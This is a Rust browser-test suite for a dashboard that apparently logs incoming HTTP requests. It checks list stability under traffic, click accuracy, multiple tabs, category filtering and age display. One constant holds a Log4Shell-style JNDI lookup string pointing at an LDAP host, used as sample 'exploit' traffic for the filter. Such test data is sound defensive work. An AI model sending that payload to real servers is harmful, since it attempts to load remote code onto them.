//! The list stays still while a visitor uses it, however many requests come in. Needs Chromium:
//! `make test-browser`.

use std::collections::HashSet;
use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context, ensure};
use forever200_testkit::browser::{Browser, LAPTOP};
use forever200_testkit::{Stack, exchange, get_json, until};
use serde_json::{Value, json};
use tokio::task::JoinHandle;
use tokio::time::{Instant, sleep, sleep_until, timeout};

/// Requests of which the list folds no two. Some are exploits.
const KINDS: [&str; 4] = [
    "/alpha/",
    "/?x=${jndi:ldap://203.0.113.9/",
    "/beta/",
    "/gamma/",
];

fn request(number: usize) -> Vec<u8> {
    let kind = KINDS[number % KINDS.len()];
    format!("GET {kind}{number} HTTP/1.1\r\nHost: x\r\n\r\n").into_bytes()
}

/// Requests that come in at a rate until this is dropped.
struct Traffic(JoinHandle<()>);

impl Traffic {
    fn start(front: SocketAddr, a_second: f64) -> Self {
        Self(tokio::spawn(async move {
            let begun = Instant::now();
            for number in 0.. {
                sleep_until(begun + Duration::from_secs_f64(number as f64 / a_second)).await;
                let _ = exchange(front, &request(number)).await;
            }
        }))
    }
}

impl Drop for Traffic {
    fn drop(&mut self) {
        self.0.abort();
    }
}

async fn stack_of(requests: usize) -> anyhow::Result<(Stack, String)> {
    let stack = Stack::start().await?;
    for number in 0..requests {
        stack.send(&request(number)).await?;
    }
    stack.until_recorded(requests as u64).await?;
    let address = format!("http://{}/home", stack.front());
    Ok((stack, address))
}

/// Returns where a row's link is, and its address.
async fn link_of(browser: &Browser, row: usize) -> anyhow::Result<(f64, f64, String)> {
    let script = format!(
        "const link = [...document.querySelectorAll('#requests .to')].filter((it) => it.checkVisibility())[{row}];
         const at = link.getBoundingClientRect();
         return [at.left + Math.min(at.width / 2, 30), at.top + at.height / 2, link.pathname]"
    );
    let found = browser.run(&script).await?;
    serde_json::from_value(found).context("a link")
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn clicks_hit_at_any_rate() -> anyhow::Result<()> {
    let (stack, address) = stack_of(30).await?;
    let browser = Browser::start(LAPTOP).await?;
    for rate in [0.5, 2.0, 10.0, 50.0] {
        let _traffic = Traffic::start(stack.front(), rate);
        let mut hits = 0;
        for click in 0..8 {
            browser.follow(&address).await?;
            // The pointer is already moving over the list when the visitor chooses a row.
            browser.point(600.0, 500.0 + f64::from(click)).await?;
            let (x, y, path) = link_of(&browser, 2 + click as usize).await?;
            browser.point(x, y).await?;
            browser
                .click(Duration::from_millis(500), Duration::from_millis(80))
                .await?;
            let gone = browser.until("another page", "location.pathname !== '/home'");
            let has_left = timeout(Duration::from_secs(3), gone).await;
            let reached = browser.run("return location.pathname").await?;
            hits += usize::from(has_left.is_ok() && reached == path);
        }
        println!("{rate} requests/s: {hits} of 8 clicks hit");
        ensure!(hits >= 7, "{hits} of 8 at {rate} requests/s");
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn rows_of_numbers_that_start_again_are_shown_once() -> anyhow::Result<()> {
    let (_stack, address) = stack_of(3).await?;
    let browser = Browser::start(LAPTOP).await?;
    browser.follow(&address).await?;
    // In one script, so that no event with the server's strip comes in between.
    let script = r#"
        const row = document.getElementById("r3").outerHTML;
        const strip = document.getElementById("strip").innerHTML;
        on.strip(strip.replace(/data-oldest="\d+"/, 'data-oldest="500"'));
        on.reset();
        const numbers = [on.row(row), on.row(row)];
        letIn();
        const rows = rowsOf(table).map((it) => it.id);
        return [...numbers, ...rows]"#;
    let shown = browser.run(script).await?;
    assert_eq!(shown, json!([3, 3, "r3"]));
    // If no request has come yet, the page tells so.
    let script = "on.reset(); return [table.hidden, document.getElementById('empty').hidden]";
    assert_eq!(browser.run(script).await?, json!([true, false]));
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_pointer_that_moves_holds_the_list_and_one_that_lies_still_does_not() -> anyhow::Result<()>
{
    let (stack, address) = stack_of(30).await?;
    let browser = Browser::start(LAPTOP).await?;
    browser.follow(&address).await?;
    let (x, y, _) = link_of(&browser, 5).await?;
    browser.point(x, y).await?;
    let places = "return [...document.querySelectorAll('#requests tr, #strip, search')].map((it) => it.getBoundingClientRect().top)";
    let before = browser.run(places).await?;
    for number in 30..42 {
        stack.send(&request(number)).await?;
    }
    browser
        .until(
            "the badge says so",
            "document.querySelector('#more').innerText === '12 new' && document.title.startsWith('(12) ')",
        )
        .await?;
    assert_eq!(browser.run(places).await?, before, "something moved");
    // The pointer has not moved since. New rows are shown, although rows move under it.
    browser
        .until(
            "they are let in",
            "document.getElementById('r42') !== null && document.querySelector('#more').hidden",
        )
        .await?;
    sleep(Duration::from_secs(1)).await;
    stack.send(&request(42)).await?;
    let soon = browser.until(
        "the next is let in",
        "document.getElementById('r43') !== null",
    );
    timeout(Duration::from_secs(2), soon)
        .await
        .context("a pointer that lies still holds the list")?
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn fifty_a_second_come_in_by_the_batch() -> anyhow::Result<()> {
    let (stack, address) = stack_of(101).await?;
    let browser = Browser::start(LAPTOP).await?;
    browser.follow(&address).await?;
    let _traffic = Traffic::start(stack.front(), 50.0);
    let count = "window.changes = new Set();
        new MutationObserver(() => changes.add(Math.round(performance.now() / 200))).observe(document.querySelector('#requests'), { childList: true });";
    sleep(Duration::from_secs(2)).await;
    browser.run(count).await?;
    sleep(Duration::from_secs(5)).await;
    let changes = browser.run("return changes.size").await?;
    let changes = changes.as_u64().context("a number")?;
    // One batch may fall into two of these 200 ms.
    ensure!((3..=12).contains(&changes), "{changes} in 5 s");
    let lag = browser
        .run("return Number(document.querySelector('#requests tbody tr').id.slice(1))")
        .await?;
    let total = get_json(stack.front(), "/home/api/stats").await?["total"].clone();
    let lag = total
        .as_u64()
        .zip(lag.as_u64())
        .map(|(total, shown)| total.saturating_sub(shown));
    ensure!(lag < Some(110), "{lag:?} behind");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn the_twelfth_tab_loads_and_a_hidden_one_catches_up() -> anyhow::Result<()> {
    let (stack, address) = stack_of(5).await?;
    let browser = Browser::start(LAPTOP).await?;
    let client = &browser.client;
    browser.follow(&address).await?;
    let first = client.window().await?;
    for tab in 2..=12 {
        let handle = client.new_window(true).await?.handle;
        client.switch_to_window(handle).await?;
        timeout(Duration::from_secs(10), browser.follow(&address))
            .await
            .with_context(|| format!("tab {tab} does not load"))??;
    }
    stack.send(&request(5)).await?;
    browser
        .until("the last follows", "document.getElementById('r6') !== null")
        .await?;
    client.switch_to_window(first).await?;
    browser
        .until(
            "the first catches up",
            "document.getElementById('r6') !== null",
        )
        .await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_filtered_page_stays_true() -> anyhow::Result<()> {
    let (stack, address) = stack_of(101).await?;
    let browser = Browser::start(LAPTOP).await?;
    browser
        .follow(&format!("{address}?category=exploit"))
        .await?;
    for number in 101..301 {
        stack.send(&request(number)).await?;
    }
    stack.until_recorded(301).await?;
    let shown = "[...document.querySelectorAll('#requests tbody tr')].map((row) => Number(row.id.slice(1)))";
    let list = get_json(stack.front(), "/home/api/requests?category=exploit").await?;
    let right: Vec<_> = list["requests"]
        .as_array()
        .context("a list")?
        .iter()
        .map(|request| request["seq"].clone())
        .collect();
    ensure!(right.len() > 20, "{}", right.len());
    until("the page shows what there is", || async {
        (browser.run(&format!("return {shown}")).await.ok()? == Value::from(right.clone()))
            .then_some(())
    })
    .await?;
    browser
        .until(
            "it says how many",
            &format!(
                "document.querySelector('#count').innerText === '{} of 101'",
                right.len()
            ),
        )
        .await?;
    // If no request matches any more, the rows go all the same, and the page tells that there is
    // none.
    for _ in 0..101 {
        stack
            .send(b"GET /beta/0 HTTP/1.1\r\nHost: x\r\n\r\n")
            .await?;
    }
    browser
        .until("none is left", "document.querySelector('#requests').hidden && document.body.innerText.includes('No requests match')")
        .await
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn ages_are_right_by_any_clock_and_columns_keep_their_width() -> anyhow::Result<()> {
    let (stack, address) = stack_of(3).await?;
    let browser = Browser::start(LAPTOP).await?;
    for minutes in [-7, 7] {
        let clock = format!("const now = Date.now; Date.now = () => now() + {minutes} * 60000;");
        let parameters = json!({ "source": clock });
        browser
            .devtools("Page.addScriptToEvaluateOnNewDocument", parameters)
            .await?;
        browser.follow(&address).await?;
        stack.send(&request(3)).await?;
        sleep(Duration::from_millis(2500)).await;
        let ages = browser
            .run("return [...document.querySelectorAll('.ago')].map((ago) => ago.textContent)")
            .await?;
        let ages: HashSet<String> = serde_json::from_value(ages)?;
        let is_fresh = |age: &String| age == "now" || age.ends_with(" s ago");
        ensure!(
            ages.iter().all(is_fresh) && ages.iter().any(|age| age != "now"),
            "{ages:?}"
        );
    }
    let columns = "return [...document.querySelectorAll('#requests th')].map((it) => it.getBoundingClientRect().left)";
    let before = browser.run(columns).await?;
    browser
        .run("const before = Date.now; Date.now = () => before() + 59 * 60000; tellAges()")
        .await?;
    let text = browser.text().await?;
    ensure!(text.contains("59 min ago"), "{text}");
    assert_eq!(browser.run(columns).await?, before);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn who_comes_back_from_a_request_is_where_they_were() -> anyhow::Result<()> {
    let (stack, address) = stack_of(90).await?;
    let browser = Browser::start(LAPTOP).await?;
    browser.follow(&address).await?;
    let place = "(() => { const row = document.getElementById('r40'); return [Math.round(row.getBoundingClientRect().top), row.contains(document.activeElement)] })()";
    browser
        .run("document.getElementById('r40').scrollIntoView({ block: 'center' })")
        .await?;
    browser
        .run("document.querySelector('#r40 .to').focus()")
        .await?;
    let before = browser.run(&format!("return {place}")).await?;
    browser
        .run("document.querySelector('#r40 .to').click()")
        .await?;
    browser
        .until("the request is open", "location.pathname.endsWith('/40')")
        .await?;
    for number in 90..95 {
        stack.send(&request(number)).await?;
    }
    stack.until_recorded(95).await?;
    browser.client.back().await?;
    browser
        .until(
            "the list is back",
            "document.getElementById('r40') !== null",
        )
        .await?;
    let is_there = || async {
        let (now, before) = (
            browser.run(&format!("return {place}")).await.ok()?,
            before.as_array()?,
        );
        let moved = now[0].as_i64()? - before[0].as_i64()?;
        (moved.abs() <= 2 && now[1] == true).then_some(())
    };
    until("it is where it was", is_there).await
}
